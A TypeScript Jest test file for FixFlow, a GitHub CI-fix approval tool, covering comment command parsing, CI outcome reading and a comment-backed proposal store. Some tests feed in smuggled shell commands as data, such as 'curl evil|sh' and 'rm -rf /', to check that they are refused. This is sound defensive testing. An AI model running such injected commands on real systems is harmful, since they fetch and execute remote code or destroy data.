// The pure parts of approve and track (reading the event) and the embedded thread store, without mocks: the store
// runs over the real GitHub client against the loopback GitHub API.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { readCommandComment, readOutcome } from '../src/event/event.js'
import type { RunContext } from '../src/event/context.js'
import { ThreadStore } from '../src/store/thread.js'
import { GitHubClient } from '../src/github/client.js'
import { fitComment, renderComment } from '../src/render/comment.js'
import { recordRunInfo } from '../src/thread/header.js'
import { proposalHash } from '../src/patch/hash.js'
import type { ProposalRecord } from '../src/types.js'
import { startGitHub, type FakeGitHub } from './support/github-server.js'

function ctx(
  eventName: string,
  payload: Record<string, unknown>,
  extra: Partial<RunContext> = {}
): RunContext {
  return {
    owner: 'acme',
    repo: 'widgets',
    eventName,
    payload,
    runId: 777,
    runAttempt: 1,
    sha: 'a'.repeat(40),
    ref: 'refs/heads/main',
    workflow: 'CI',
    job: 'fixflow',
    serverUrl: 'https://github.com',
    ...extra
  }
}

const SHA = '0123456789abcdef0123456789abcdef01234567'

function prComment(
  body: string,
  o: { action?: string; login?: string; type?: string; pr?: boolean } = {}
): Record<string, unknown> {
  return {
    action: o.action ?? 'created',
    issue: { number: 7, ...(o.pr === false ? {} : { pull_request: { url: 'x' } }) },
    comment: { id: 42, body, user: { login: o.login ?? 'wendy', type: o.type ?? 'User' } }
  }
}

describe('readCommandComment', () => {
  it('reads a created PR comment whose first line is a command', () => {
    expect(readCommandComment(ctx('issue_comment', prComment('/fixflow approve 12-1\nthanks')))).toEqual({
      id: 42,
      replyKey: 'comment-42',
      body: '/fixflow approve 12-1\nthanks',
      user: 'wendy',
      thread: { kind: 'pr', number: 7 },
      command: { verb: 'approve', id: '12-1' }
    })
    expect(
      readCommandComment(ctx('issue_comment', prComment('/fixflow reject 12-1 not this')))
    ).toMatchObject({
      command: { verb: 'reject', id: '12-1', reason: 'not this' }
    })
  })

  it('ignores edited and deleted comments', () => {
    for (const action of ['edited', 'deleted']) {
      expect(
        readCommandComment(ctx('issue_comment', prComment('/fixflow approve', { action })))
      ).toHaveProperty('ignored')
    }
  })

  it('ignores bots, by type and by the [bot] suffix', () => {
    expect(
      readCommandComment(
        ctx('issue_comment', prComment('/fixflow approve', { login: 'github-actions[bot]', type: 'Bot' }))
      )
    ).toHaveProperty('ignored')
    expect(
      readCommandComment(
        ctx('issue_comment', prComment('/fixflow approve', { login: 'renovate[bot]', type: 'User' }))
      )
    ).toHaveProperty('ignored')
  })

  it('ignores quoted commands, commands after the first line, and plain comments', () => {
    for (const body of ['> /fixflow approve', 'LGTM\n/fixflow approve', 'nice', '', '`/fixflow approve`']) {
      expect(readCommandComment(ctx('issue_comment', prComment(body)))).toHaveProperty('ignored')
    }
  })

  it('ignores comments on issues that are not pull requests, and other events', () => {
    expect(
      readCommandComment(ctx('issue_comment', prComment('/fixflow approve', { pr: false })))
    ).toHaveProperty('ignored')
    expect(readCommandComment(ctx('pull_request', { action: 'opened' }))).toHaveProperty('ignored')
    expect(readCommandComment(ctx('issue_comment', { action: 'created' }))).toHaveProperty('ignored')
  })

  it('keeps a hostile id as data (the id pattern refuses it later)', () => {
    expect(
      readCommandComment(ctx('issue_comment', prComment('/fixflow approve x";curl evil|sh;#')))
    ).toMatchObject({
      command: { verb: 'approve', id: 'x";curl' }
    })
  })

  it('reads commit comments on a commit thread, and only with a full commit SHA', () => {
    const event = (commit_id: unknown): Record<string, unknown> => ({
      action: 'created',
      comment: { id: 9, body: '/fixflow approve', commit_id, user: { login: 'wendy', type: 'User' } }
    })
    expect(readCommandComment(ctx('commit_comment', event(SHA)))).toMatchObject({
      thread: { kind: 'commit', sha: SHA }
    })
    for (const bad of ['main', SHA.slice(0, 7), `${SHA};rm -rf /`, undefined]) {
      expect(readCommandComment(ctx('commit_comment', event(bad)))).toHaveProperty('ignored')
    }
  })
})

describe('readOutcome', () => {
  const wr = (conclusion: string | null, status = 'completed', branch = 'fixflow/12-1'): RunContext =>
    ctx('workflow_run', {
      action: 'completed',
      workflow_run: {
        head_branch: branch,
        status,
        conclusion,
        html_url: 'https://github.com/acme/widgets/actions/runs/5'
      }
    })

  it('CI success on a fix branch resolves it (from approved or failed)', () => {
    expect(readOutcome(wr('success'))).toEqual({
      branch: 'fixflow/12-1',
      to: 'resolved',
      from: ['approved', 'failed'],
      note: 'CI passed',
      link: 'https://github.com/acme/widgets/actions/runs/5'
    })
  })

  it('CI failure or timeout fails it; other conclusions and unfinished runs are ignored', () => {
    expect(readOutcome(wr('failure'))).toMatchObject({
      to: 'failed',
      from: ['approved', 'resolved'],
      note: 'CI failure'
    })
    expect(readOutcome(wr('timed_out'))).toMatchObject({ to: 'failed', note: 'CI timed_out' })
    for (const c of ['cancelled', 'skipped', 'neutral', null])
      expect(readOutcome(wr(c))).toHaveProperty('ignored')
    expect(readOutcome(wr(null, 'in_progress'))).toHaveProperty('ignored')
  })

  it('a merged fix PR is merged; closed without merging is ignored', () => {
    const pr = (merged: boolean): RunContext =>
      ctx('pull_request', {
        action: 'closed',
        pull_request: {
          merged,
          head: { ref: 'fixflow/12-1' },
          html_url: 'https://github.com/acme/widgets/pull/9'
        }
      })
    expect(readOutcome(pr(true))).toEqual({
      branch: 'fixflow/12-1',
      to: 'merged',
      from: ['approved', 'resolved', 'failed'],
      note: 'merged',
      link: 'https://github.com/acme/widgets/pull/9'
    })
    expect(readOutcome(pr(false))).toHaveProperty('ignored')
  })

  it("FixFlow's own on-failure job on a fix branch (PR or push) means the fix failed, linked to this run", () => {
    const onPr = ctx('pull_request', {
      action: 'synchronize',
      pull_request: { head: { ref: 'fixflow/12-1' } }
    })
    expect(readOutcome(onPr)).toEqual({
      branch: 'fixflow/12-1',
      to: 'failed',
      from: ['approved', 'resolved'],
      note: 'CI failed',
      link: 'https://github.com/acme/widgets/actions/runs/777'
    })
    expect(readOutcome(ctx('push', {}, { ref: 'refs/heads/fixflow/12-1' }))).toMatchObject({
      branch: 'fixflow/12-1',
      to: 'failed'
    })
  })

  it('reports the branch as it is, so track can refuse anything that is not fixflow/<id>', () => {
    expect(readOutcome(wr('success', 'completed', 'main'))).toMatchObject({ branch: 'main' })
    expect(readOutcome(wr('success', 'completed', 'fixflow/x";echo hi;#'))).toMatchObject({
      branch: 'fixflow/x";echo hi;#'
    })
  })
})

describe('ThreadStore (over the real client and the loopback GitHub API)', () => {
  let gh: FakeGitHub
  let client: GitHubClient
  const render = (r: ProposalRecord): string =>
    fitComment(renderComment(recordRunInfo(r), { kind: 'proposal', record: r, embed: true }))

  function record(id: string, o: Partial<ProposalRecord> = {}): ProposalRecord {
    const r: ProposalRecord = {
      failure_id: id,
      repo_name: 'acme/widgets',
      branch: 'feature',
      commit_sha: SHA,
      run_id: Number(id.split('-')[0]),
      run_attempt: 1,
      pr_number: 1,
      root_cause: 'missing dependency',
      proposed_patch: [{ file_path: 'requirements.txt', original: 'a\n', replacement: 'a\nb\n' }],
      diff: '+b',
      risk_score: 'low',
      risk_reasons: [],
      confidence: 0.9,
      status: 'pending',
      commit_message: 'fix: b',
      file_shas: { 'requirements.txt': 'f'.repeat(40) },
      proposal_hash: '',
      from_fork: false,
      provider: 'rules',
      model_id: 'rules',
      input_tokens: 0,
      output_tokens: 0,
      timestamp: '2026-01-01T00:00:00.000Z',
      updated_at: '2026-01-01T00:00:00.000Z',
      ...o
    }
    r.proposal_hash = proposalHash(r)
    return r
  }

  beforeAll(async () => {
    gh = await startGitHub()
    const sha = gh.push('main', { 'requirements.txt': 'a\n' })
    gh.addPull({ head_sha: sha, head_ref: 'feature' })
    gh.addPull({ head_sha: sha, head_ref: 'other' })
    client = new GitHubClient({
      token: gh.token,
      repo: { owner: gh.owner, repo: gh.repo },
      baseUrl: gh.url,
      retryBaseMs: 5
    })
  })
  afterAll(async () => {
    await gh?.close()
  })

  it('finds proposals only in bot comments, newest first per thread; get() round-trips the record and its hash', async () => {
    const thread = { kind: 'pr' as const, number: 1 }
    const older = record('10-1', { timestamp: '2026-01-01T00:00:00.000Z' })
    const newer = record('11-1', { timestamp: '2026-01-02T00:00:00.000Z' })
    gh.addComment(thread, render(older), gh.bot)
    gh.addComment(thread, render(newer), gh.bot)
    // A user pasting FixFlow's markup (with their own patch) plants nothing.
    gh.addComment(thread, render(record('12-1', { proposed_patch: [] })), { login: 'mallory', type: 'User' })
    gh.addComment({ kind: 'pr', number: 2 }, render(record('13-1', { pr_number: 2 })), gh.bot)
    const store = new ThreadStore(client, thread, render)
    expect((await store.listForThread('acme/widgets', { pr_number: 1 })).map(r => r.failure_id)).toEqual([
      '11-1',
      '10-1'
    ])
    expect(await store.listForThread('other/repo', { pr_number: 1 })).toEqual([])
    expect(await store.get('12-1')).toBeUndefined()
    expect(await store.get('13-1')).toBeUndefined()
    const got = await store.get('10-1')
    expect(got).toMatchObject({ failure_id: '10-1', status: 'pending' })
    expect(got?.comment_url).toMatch(/#issuecomment-\d+$/)
    expect(proposalHash(got!)).toBe(older.proposal_hash)
  })

  it('transition is conditional on the current status and rewrites the comment with the new record', async () => {
    const thread = { kind: 'pr' as const, number: 2 }
    const store = new ThreadStore(client, thread, render)
    expect(await store.transition('13-1', 'approved', 'resolved')).toBe(false)
    expect(await store.transition('13-1', ['pending'], 'approved', { approved_by: 'wendy' })).toBe(true)
    const after = await store.get('13-1')
    expect(after).toMatchObject({ status: 'approved', approved_by: 'wendy' })
    expect(gh.commentsOn(thread)[0]?.body).toContain('Approved by `wendy`')
    expect(await store.transition('13-1', 'pending', 'approved')).toBe(false)
    expect(await store.transition('99-1', 'pending', 'approved')).toBe(false)
    await expect(store.save(after!)).resolves.toBeUndefined()
  })

  it('commit threads: proposals are found by commit SHA', async () => {
    const thread = { kind: 'commit' as const, sha: gh.branchSha('main')! }
    gh.addComment(thread, render(record('20-1', { pr_number: undefined, commit_sha: thread.sha })), gh.bot)
    const store = new ThreadStore(client, thread, render)
    expect(
      (await store.listForThread('acme/widgets', { commit_sha: thread.sha })).map(r => r.failure_id)
    ).toEqual(['20-1'])
    expect(await store.listForThread('acme/widgets', { commit_sha: SHA })).toEqual([])
  })
})
